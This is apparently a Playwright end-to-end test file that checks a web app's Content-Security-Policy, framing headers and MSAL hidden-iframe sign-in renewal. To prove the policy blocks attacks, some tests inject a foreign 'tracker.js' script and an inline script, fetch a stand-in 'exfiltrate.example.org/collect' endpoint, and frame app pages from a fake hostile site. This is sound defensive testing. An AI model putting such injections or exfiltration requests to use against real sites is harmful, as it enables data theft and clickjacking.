// The Content-Security-Policy and the other response headers of staticwebapp.config.json, as the browser gets
// them: e2e/stack.ts serves the production bundle with the file that frontend/scripts/swa-config.mjs writes for
// this stack's config.json (as azd's predeploy hook does for a deployment), and e2e/fixtures.ts fails every
// test whose pages report a violation. These tests show that the policy is exact, that the watch catches what
// falls outside it, and that MSAL's hidden iframe works under it.
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test, expect, signIn, openDashboard, type CspWatch } from "./fixtures";
import { FRONTEND } from "./stack";

function apiOrigin(): string {
  const url = process.env.E2E_API_URL;
  if (!url) throw new Error("E2E_API_URL is not set (global setup did not run)");
  return new URL(url).origin;
}

/** The policy as a map of directive → sources. */
function directives(policy: string | undefined): Map<string, string[]> {
  expect(policy, "Content-Security-Policy header").toBeTruthy();
  return new Map(
    policy!
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name!, sources]),
  );
}

/** Waits for a violation matching `blocked`, allows those (they no longer fail the test) and returns them. */
/**
 * The violations matching `blocked`, once one refused by `directive` (when given) has arrived: a violation comes as
 * an event and as console messages in no fixed order, so waiting for "any" and then checking the event's directive
 * was a race (the console message alone arrived first once).
 */
async function violationsFor(csp: CspWatch, blocked: RegExp, directive?: string) {
  await expect
    .poll(() => csp.allow(blocked).filter((v) => directive === undefined || v.directive === directive).length, {
      message: `a CSP violation for ${blocked}${directive ? ` (${directive})` : ""}`,
    })
    .toBeGreaterThan(0);
  return csp.allow(blocked);
}

const escapeRe = (s: string) => s.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");

test.describe("response headers", () => {
  for (const path of ["/", "/dashboard", "/admin", "/docs"]) {
    test(`${path}: a strict policy naming exactly the Entra, Graph and API origins, and never framed`, async ({ request }) => {
      const res = await request.get(path);
      expect(res.status()).toBe(200);
      const h = res.headers();
      const csp = directives(h["content-security-policy"]);
      expect(csp.get("default-src")).toEqual(["'self'"]);
      expect(csp.get("connect-src")).toEqual(["'self'", "https://login.microsoftonline.com", "https://graph.microsoft.com", apiOrigin()]);
      expect(csp.get("frame-src")).toEqual(["'self'", "https://login.microsoftonline.com"]);
      expect(csp.get("frame-ancestors")).toEqual(["'none'"]);
      expect(csp.get("object-src")).toEqual(["'none'"]);
      expect(csp.get("base-uri")).toEqual(["'none'"]);
      expect(csp.get("form-action")).toEqual(["'self'", "https://login.microsoftonline.com"]);
      // Scripts: our files and the hash of index.html's one inline script; nothing inline or evaluated otherwise.
      const scripts = csp.get("script-src")!;
      expect(scripts[0]).toBe("'self'");
      expect(scripts.slice(1)).toEqual([expect.stringMatching(/^'sha256-[A-Za-z0-9+/]+=*'$/)]);
      expect(h["content-security-policy"]).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
      expect(h["x-frame-options"]).toBe("DENY");
      expect(h["x-content-type-options"]).toBe("nosniff");
      expect(h["referrer-policy"]).toBe("strict-origin-when-cross-origin");
      expect(h["permissions-policy"]).toContain("camera=()");
      expect(h["strict-transport-security"]).toMatch(/^max-age=\d{8,}/);
      expect(h["cross-origin-opener-policy"]).toBe("same-origin-allow-popups");
    });
  }

  test("/redirect.html may be framed by its own origin (MSAL's hidden iframe) and has no COOP", async ({ request }) => {
    const res = await request.get("/redirect.html");
    const h = res.headers();
    const csp = directives(h["content-security-policy"]);
    expect(csp.get("frame-ancestors")).toEqual(["'self'"]);
    expect(csp.get("script-src")).toEqual(["'self'"]);
    expect(h["x-frame-options"]).toBe("SAMEORIGIN");
    // The redirect bridge must not be served with Cross-Origin-Opener-Policy (MSAL v5's redirect-bridge guide).
    expect(h["cross-origin-opener-policy"]).toBeUndefined();
    expect(h["cache-control"]).toBe("no-store");
  });

  test("public/staticwebapp.config.json is what scripts/swa-config.mjs writes for the example settings", () => {
    const dir = mkdtempSync(join(tmpdir(), "swa-config-"));
    try {
      const out = join(dir, "staticwebapp.config.json");
      const r = spawnSync("node", ["scripts/swa-config.mjs", "--config", "public/config.example.json", "--index", "index.html", "--out", out], {
        cwd: FRONTEND,
        encoding: "utf8",
      });
      expect(r.status, r.stderr).toBe(0);
      expect(readFileSync(join(FRONTEND, "public", "staticwebapp.config.json"), "utf8"), "run `npm run swa-config` in frontend/").toBe(readFileSync(out, "utf8"));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

test.describe("the watch in e2e/fixtures.ts fails a test on anything outside the policy", () => {
  test("a script from another origin, or an inline one, is refused and reported", async ({ page, csp }) => {
    await page.goto("/");
    await expect(page.getByRole("button", { name: "Sign in with Microsoft" })).toBeEnabled();
    await page.addScriptTag({ url: "https://cdn.example.net/tracker.js" }).catch(() => {});
    const foreign = await violationsFor(csp, /cdn\.example\.net/, "script-src-elem");
    expect(foreign.some((v) => v.directive === "script-src-elem")).toBe(true);

    const INJECTED = "window.__injected = true";
    await page.evaluate((code) => {
      const s = document.createElement("script");
      s.textContent = code;
      document.head.append(s);
    }, INJECTED);
    // The event names it "inline"; Chromium's message names the hash it would need.
    const hash = createHash("sha256").update(INJECTED).digest("base64");
    const inline = await violationsFor(csp, new RegExp(`^inline$|${escapeRe(hash)}`), "script-src-elem");
    expect(inline.some((v) => v.directive === "script-src-elem")).toBe(true);
    expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
  });

  test("a request to an origin not in connect-src is refused, even the API's host on another port", async ({ page, csp }) => {
    await page.goto("/");
    await expect(page.getByRole("button", { name: "Sign in with Microsoft" })).toBeEnabled();
    const api = new URL(apiOrigin());
    const otherPort = `${api.protocol}//${api.hostname}:${Number(api.port) === 1 ? 2 : 1}`;
    for (const url of ["https://exfiltrate.example.org/collect", `${otherPort}/api/tasks`]) {
      const outcome = await page.evaluate((u) => fetch(u).then(() => "sent", () => "refused"), url);
      expect(outcome, url).toBe("refused");
      const seen = await violationsFor(csp, new RegExp(escapeRe(url)), "connect-src");
      expect(seen.some((v) => v.directive === "connect-src"), url).toBe(true);
    }
  });

  // The proof that a violation fails a test: this one adds a foreign script and does not take the violation,
  // so the fixture must fail it (test.fail: Playwright reports it passed only if it failed).
  test("a test that adds a script outside the policy fails", async ({ page, csp }) => {
    test.fail();
    await page.goto("/");
    await expect(page.getByRole("button", { name: "Sign in with Microsoft" })).toBeEnabled();
    await page.addScriptTag({ url: "https://cdn.example.net/tracker.js" }).catch(() => {});
    await expect.poll(() => csp.violations.length).toBeGreaterThan(0);
  });
});

test.describe("framing", () => {
  test("no page of the app can be framed by another site, nor by the app itself; redirect.html only by the app", async ({ page, context, csp, baseURL }) => {
    const SITE = "http://framer.example";
    await context.route(`${SITE}/**`, (route) => {
      const target = new URL(route.request().url()).searchParams.get("src")!;
      return route.fulfill({ contentType: "text/html", body: `<!doctype html><title>framer</title><iframe src="${target}"></iframe>` });
    });
    /** Chromium reports a refused frame-ancestors in the console of the page that framed it. */
    const refusedIn = async (framer: string, directive: RegExp) =>
      expect.poll(() => csp.allow(directive).some((v) => v.page.startsWith(framer)), { message: `${directive} refused in ${framer}` }).toBe(true);

    await page.goto(`${SITE}/?src=${encodeURIComponent(`${baseURL}/admin`)}`);
    await refusedIn(SITE, /frame-ancestors 'none'/);
    await page.goto(`${SITE}/?src=${encodeURIComponent(`${baseURL}/redirect.html`)}`);
    await refusedIn(SITE, /frame-ancestors 'self'/);

    // The app framing itself: its pages refuse, redirect.html loads.
    await page.goto("/");
    await expect(page.getByRole("button", { name: "Sign in with Microsoft" })).toBeEnabled();
    await page.evaluate(() => {
      const f = document.createElement("iframe");
      f.src = "/admin";
      document.body.append(f);
    });
    await refusedIn(baseURL!, /frame-ancestors 'none'/);
    await page.evaluate(() => {
      const f = document.createElement("iframe");
      f.src = "/redirect.html";
      f.title = "bridge";
      document.body.append(f);
    });
    // Loaded (not refused): the bridge ran and, with no sign-in response to hand on, says so.
    await expect(page.frameLocator('iframe[title="bridge"]').getByRole("status")).toContainText(/Sign-in could not be completed|Finishing sign-in/);
    expect(csp.violations.filter((v) => /frame-ancestors 'self'/.test(v.blocked) && v.page.startsWith(baseURL!))).toEqual([]);
  });

  test("a silent renewal through MSAL's hidden iframe (redirect.html framed) runs under the policy", async ({ page, entra }) => {
    const framed: string[] = [];
    page.on("framenavigated", (f) => {
      if (f !== page.mainFrame()) framed.push(f.url());
    });
    await page.clock.install();
    await signIn(page);
    // The cached access token is past its hour and Entra refuses the refresh token (AADSTS700084), so MSAL
    // renews through its hidden iframe (prompt=none), which loads Entra and comes back to redirect.html.
    await page.clock.fastForward("01:01:00");
    entra.advanceClock(24 * 3600 + 60);
    await openDashboard(page);
    await expect(page.getByText("No tasks yet")).toBeVisible();
    expect(entra.count("authorize", "none")).toBeGreaterThanOrEqual(1);
    expect(framed.some((u) => u.startsWith("https://login.microsoftonline.com/"))).toBe(true);
    expect(framed.some((u) => new URL(u).pathname === "/redirect.html")).toBe(true);
    await expect(page.getByRole("alert")).toHaveCount(0);
  });
});
